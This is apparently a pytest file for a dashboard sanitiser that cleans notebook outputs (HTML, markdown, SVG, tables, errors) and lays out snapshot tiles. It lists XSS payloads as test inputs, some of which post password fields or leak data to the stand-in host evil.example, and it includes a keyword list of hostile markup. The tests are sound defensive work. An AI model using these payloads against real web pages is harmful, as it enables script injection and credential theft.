"""Outputs that want to run, load, leak or overlay."""

from __future__ import annotations

import base64

import pytest

from workspace_ext.contract.dashboards import Layout, Output, Provenance, TileLayout
from workspace_server.dashboards import sanitise
from workspace_server.dashboards.layout import Shown, check, merge, propose
from workspace_server.dashboards.snapshot import decode, headings, take
from workspace_server.kit.errors import Invalid

PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n" + b"\0" * 8 + (640).to_bytes(4, "big") + (480).to_bytes(4, "big") + b"\0"
).decode()
HOSTILE = (
    "onerror onload ontoggle javascript: evil.example <svg style= id= class= <form <input <meta <base <object <embed "
    "data:text data:image/svg"
)
TABLE = {"columns": [{"name": "day", "type": "number"}], "rows": [[1], [2]], "total": 2}


def shown(**data: object) -> Output | None:
    mimes = {name.replace("_", "/", 1).replace("_", "."): value for name, value in data.items()}
    return sanitise.output({"output_type": "display_data", "data": mimes, "metadata": {}})


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href=' JaVaScRiPt:alert(1)'>x</a>",
        "<svg onload=alert(1)></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<form action='https://evil.example'><input name=password></form>",
        "<img src='https://evil.example/?leak'>",
        "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
        "<object data='https://evil.example'></object>",
        "<embed src='https://evil.example'>",
        "<base href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<video src=x onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<div id=root class=bar name=body>x</div>",
        "<template><img src=x onerror=alert(1)></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<b><img src='data:text/html;base64,PHNjcmlwdD4='></b>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<!--><img src=x onerror=alert(1)>-->",
    ],
)
def test_html_is_cleaned(hostile: str) -> None:
    for html in (sanitise.clean(hostile), sanitise.markdown(hostile), sanitise.markdown(f"*a*\n\n{hostile}\n")):
        for word in HOSTILE.split():
            assert word not in html.lower().replace("&lt;", ""), html


@pytest.mark.parametrize("running", ["<script>alert(1)</script>", "<div><STYLE>*{}</STYLE></div>", "<iframe src=x>"])
def test_html_that_runs_is_for_the_frame_only(running: str) -> None:
    output = shown(text_html=running)
    assert output is not None
    assert (output.kind, output.html) == ("frame", "")


def test_markdown_stays_markdown() -> None:
    output = shown(
        text_markdown="# A\n\n**b** [c](https://example.org) ![d](https://evil.example/x.png)\n\n| x |\n|---|\n| 1 |"
    )
    assert output is not None
    assert "<h1>A</h1>" in output.html
    assert "<strong>b</strong>" in output.html
    assert 'rel="noopener noreferrer nofollow"' in output.html
    assert "<td>1</td>" in output.html
    assert "evil" not in output.html


def test_pictures_are_data_and_svg_cannot_run() -> None:
    output = shown(image_png=PNG, text_plain="<Figure size 640x480>")
    assert output is not None
    assert (output.kind, output.width, output.height, output.text) == ("image", 640, 480, "")
    svg = sanitise.bundle({"image/svg+xml": ["<svg onload=alert(1)>", "</svg>"]}, {})
    assert svg is not None
    assert svg.image.startswith("data:image/svg+xml;base64,")
    for python, words in (
        ("'a text'", "a text"),
        ("np.float64(204.0)", "204.0"),
        ("np.str_('x')", "x"),
        ("f('x')", "f('x')"),
    ):
        assert sanitise.bundle({"text/plain": python}, {}) == Output("text", text=words)
    assert shown(image_png="not base64!", text_plain="x") == Output("text", text="x")


def test_tables_hold_scalars_only() -> None:
    raw = {
        "columns": [{"name": "<b>x</b>", "type": "evil"}, "no column"],
        "rows": [[{"__proto__": 1}], ["<script>"], "no row", [float("inf")], [True, 2, 3], []],
        "total": "many",
    }
    found = sanitise.table(raw)
    assert found == {
        "columns": [{"name": "<b>x</b>", "type": "string"}],
        "rows": [["{'__proto__': 1}"], ["<script>"], [None], [True], [None]],
        "total": 5,
    }
    assert sanitise.table({"columns": 1, "rows": []}) is None
    assert sanitise.table(None) is None
    large = sanitise.table({"columns": [{"name": "a"}], "rows": [[1]] * 5000, "total": 5000})
    assert large is not None
    assert (len(large["rows"]), large["total"]) == (1000, 5000)


def test_errors_show_no_code_and_warnings_nothing() -> None:
    raw = {
        "output_type": "error",
        "ename": "ValueError",
        "evalue": "\x1b[31mno\x1b[0m <b>",
        "traceback": ["secret = 1"],
    }
    assert sanitise.output(raw) == Output("error", text="ValueError: no <b>")
    assert sanitise.output({"output_type": "stream", "name": "stderr", "text": "warning: /home/ana"}) is None
    assert sanitise.output({"output_type": "stream", "name": "stdout", "text": ["a\n", "b"]}) == Output(
        "text", text="a\nb"
    )
    assert sanitise.output({"output_type": "evil"}) is None
    long = sanitise.output({"output_type": "stream", "name": "stdout", "text": "x" * 10**6})
    assert long is not None
    assert len(long.text) < 110_000


@pytest.mark.parametrize(
    "raw",
    [
        None,
        {"name": "a b", "kind": "dropdown", "choices": [1], "value": 1},
        {"name": "a", "kind": "html", "choices": [1], "value": 1},
        {"name": "a", "kind": "dropdown", "choices": [1], "value": 2},
        {"name": "a", "kind": "dropdown", "choices": "abc", "value": "a"},
    ],
)
def test_widgets_that_are_none(raw: object) -> None:
    assert sanitise.widget(raw) is None


def cell(id: str, source: str, *outputs: dict[str, object], kind: str = "code") -> dict[str, object]:
    return {"cell_type": kind, "id": id, "source": source, "metadata": {}, "outputs": list(outputs)}


def display(**data: object) -> dict[str, object]:
    return {"output_type": "display_data", "metadata": {}, "data": data}


WIDGET = {"name": "store", "kind": "dropdown", "label": "Store", "choices": ["a", "b"], "value": "a"}
PROVENANCE = Provenance("run", "2026-11-23T06:02:00+00:00")


def test_a_snapshot_of_a_notebook() -> None:
    notebook = {
        "cells": [
            cell("t", "# *Weekly* `sales`\n\nWhat was\nsold. <script>alert(1)</script>", kind="markdown"),
            cell("w", "store = ...", display(**{sanitise.WIDGET: WIDGET})),
            cell("h", "## By day", kind="markdown"),
            cell("d", "x = 1\ndays_sold", display(**{sanitise.TABLE: TABLE, "text/html": "<table></table>"})),
            cell("p", "plot()", display(**{"image/png": PNG})),
            cell("n", "total", {"output_type": "execute_result", "metadata": {}, "data": {"text/plain": "1,234"}}),
            cell("s", "print()", {"output_type": "stream", "name": "stdout", "text": "long words"}),
            cell("q", "quiet = 1"),
            cell("m", "Words in between.", kind="markdown"),
        ]
    }
    taken = take(notebook, "s1", "report", PROVENANCE)
    assert taken.title == "Weekly sales"
    assert taken.lead.startswith("What was sold.")
    assert "<script" not in taken.lead
    assert taken.widgets == [WIDGET]
    assert [(part.id, part.title) for part in taken.parts] == [
        ("d", "By day"), ("p", ""), ("n", "Total"), ("s", ""), ("m", ""),
    ]  # fmt: skip
    proposed = taken.proposed()
    assert [(tile.id, tile.width, tile.hidden) for tile in proposed.tiles] == [
        ("d", 6, False), ("p", 6, False), ("n", 12, False), ("s", 6, True), ("m", 6, True),
    ]  # fmt: skip
    assert decode(taken.encode()) == taken
    assert take({"cells": []}, "s", "report", PROVENANCE).title == "report"


def test_headings() -> None:
    assert headings("Intro\n\n## A\n\nText") == (["A"], "Intro")
    assert headings("no heading") == ([], "no heading")


def test_a_layout_lives_on_with_new_outputs() -> None:
    def layout(*ids: str) -> Layout:
        return Layout("T", [TileLayout(id, 6) for id in ids])

    arranged = Layout("Mine", [TileLayout("c", 12, title="C"), TileLayout("a", 4, hidden=True)])
    merged = merge(arranged, layout("a", "b", "c", "d"))
    assert [(tile.id, tile.width, tile.hidden, tile.title) for tile in merged.tiles] == [
        ("c", 12, False, "C"), ("a", 4, True, ""), ("b", 6, False, ""), ("d", 6, False, ""),
    ]  # fmt: skip
    assert merged.title == "Mine"
    assert [tile.id for tile in merge(arranged, layout("a")).tiles] == ["a"]


def test_rows_are_filled() -> None:
    def widths(*outputs: Output) -> list[int]:
        shown = [Shown(str(i), "", [output]) for i, output in enumerate(outputs)]
        return [tile.width for tile in propose("T", shown).tiles]

    table = Output("table", table=TABLE)
    wide = Output("image", width=1200, height=400)
    number = Output("text", text="42")
    assert widths(table, table) == [6, 6]
    assert widths(table) == [12]
    assert widths(table, wide) == [12, 12]
    assert widths(number, number, number, number, table, wide) == [3, 3, 3, 3, 12, 12]
    assert widths(number, number, number) == [4, 4, 4]
    assert widths(number, number, table, table) == [6, 6, 6, 6]


def test_layouts_that_are_refused_name_the_field() -> None:
    with pytest.raises(Invalid) as refused:
        check(Layout("T", [TileLayout("a", 5)]), ["a"])
    assert refused.value.field == "tiles"
    with pytest.raises(Invalid):
        check(Layout("T", [TileLayout("a", 6), TileLayout("a", 6)]), ["a", "b"])
    assert check(Layout("  A \n b ", [TileLayout("a", 6)]), ["a"]).title == "A b"
